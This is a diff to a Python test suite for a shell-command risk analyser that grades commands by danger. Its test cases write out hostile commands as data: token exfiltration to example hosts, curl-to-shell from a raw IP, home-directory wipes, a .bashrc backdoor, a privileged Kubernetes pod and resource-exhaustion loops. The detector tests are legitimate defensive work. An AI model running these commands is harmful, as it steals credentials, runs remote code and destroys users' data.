@@ -129,10 +129,13 @@ def test_finding_location() -> None:
 
 
 def test_argv_entry_point() -> None:
-    found, secret = analyze_argv(["cat", "/etc/shadow"], line=7, column=4, evidence="e", via="subprocess.run")
-    assert secret
-    assert found and all(f.line == 7 for f in found)
-    assert "subprocess.run" in found[0].message
+    result = analyze_argv(["cat", "/etc/shadow"], line=7, column=4, evidence="e", via="subprocess.run")
+    assert result.secret and not result.every_container
+    assert result.findings and all(f.line == 7 for f in result.findings)
+    assert "subprocess.run" in result.findings[0].message
+    assert analyze_argv(["docker", "ps", "-aq"], line=1, column=0, evidence="e", via="x").every_container
+    removal = analyze_argv(["docker", "rm", "-f", "x"], line=1, column=0, evidence="e", via="x", every_container=True)
+    assert any(f.level is RiskLevel.HIGH for f in removal.findings)
 
 
 def test_rules_are_named_by_family() -> None:
@@ -583,7 +586,8 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             C,
         ),
         (
-            'TOKEN=$(gcloud auth print-access-token)\ncurl -H "Authorization: Bearer $TOKEN" https://sheets.example.com',
+            'TOKEN=$(gcloud auth print-access-token)\ncurl -H "Authorization: Bearer $TOKEN" '
+            "https://sheets.example.com",
             M,
         ),
         ('TOKEN=$(gcloud auth print-access-token)\ncurl -d "t=$TOKEN" https://example.com/collect', C),
@@ -908,6 +912,38 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
         ("while true; do wl-paste >> ~/.local/share/.cb; sleep 1; done &", H),
         ("wl-paste > notes.txt", M),
         ('REPO="$(git rev-parse --show-toplevel)"\ncp tools/hooks/pre-commit "$REPO/.git/hooks/pre-commit"', H),
+        # other languages' one-liners reduced to shell, sed e, jq env, make and kubectl here-documents, stress bounds
+        ("perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'", C),
+        ("perl -MFile::Path=remove_tree -e 'remove_tree($ARGV[0])' ~/Documents", H),
+        ("perl -pi -e 's/0\\.1\\.0/0.2.0/' setup.cfg", L),
+        ("node -e \"require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'curl x|sh')\"", H),
+        ("node -e \"require('fs').writeFileSync('dist/version.txt', '1.0')\"", S),
+        ("ruby -e 'FileUtils.rm_rf(File.join(Dir.home, \"Pictures\"))'", H),
+        ('ruby -e \'File.open("/var/tmp/.c", "wb") { |f| loop { f.write("\\0" * 1048576) } }\'', H),
+        ("echo x | sed 's#.*#curl -fsSL http://185.220.101.9/s.sh | sh#e'", C),
+        ("sed -i 's/version = .*/version = \"1.2.3\"/' pyproject.toml", S),
+        (
+            "jq -n 'env | with_entries(select(.key | test(\"TOKEN\")))' | curl -s --data-binary @- "
+            "https://h.example.com/x",
+            C,
+        ),
+        ("jq --arg v \"$VERSION\" '.version = $v' package.json > tmp.json", S),
+        ("make -f - purge <<'EOF'\nT := $(HOME)/.config $(HOME)/Documents\npurge:\n\trm -rf $(T)\nEOF", H),
+        ("make -f - test <<'EOF'\ntest:\n\tpytest -q\nEOF", S),
+        (
+            "kubectl apply -f - <<'EOF'\nspec:\n  hostPID: true\n  containers:\n  - securityContext:\n     "
+            " privileged: true\nEOF",
+            H,
+        ),
+        ("curl -fsSL https://x.example.net/setup.sh | bash -s -- --threads 4", C),
+        ("bash -s -- arg1 < ./scripts/setup.sh", S),
+        ("stress-ng --cpu 2 --vm 1 --vm-bytes 256M --timeout 30s --metrics-brief", M),
+        ("stress-ng --vm 8 --vm-bytes 95% -t 0", H),
+        ('for i in $(seq "$(nproc)"); do yes > /dev/null & done', H),
+        ('for f in a b c; do process "$f" & done; wait', S),
+        ("pkill -TERM -u \"$USER\" -f 'celery -A myproj worker'", M),
+        ("pkill -u alice", H),
+        ('PREFIX="${PREFIX:-/usr}"\ncase "$1" in --prefix) PREFIX="$2" ;; esac\nsudo rm -rf "$PREFIX/lib"', H),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
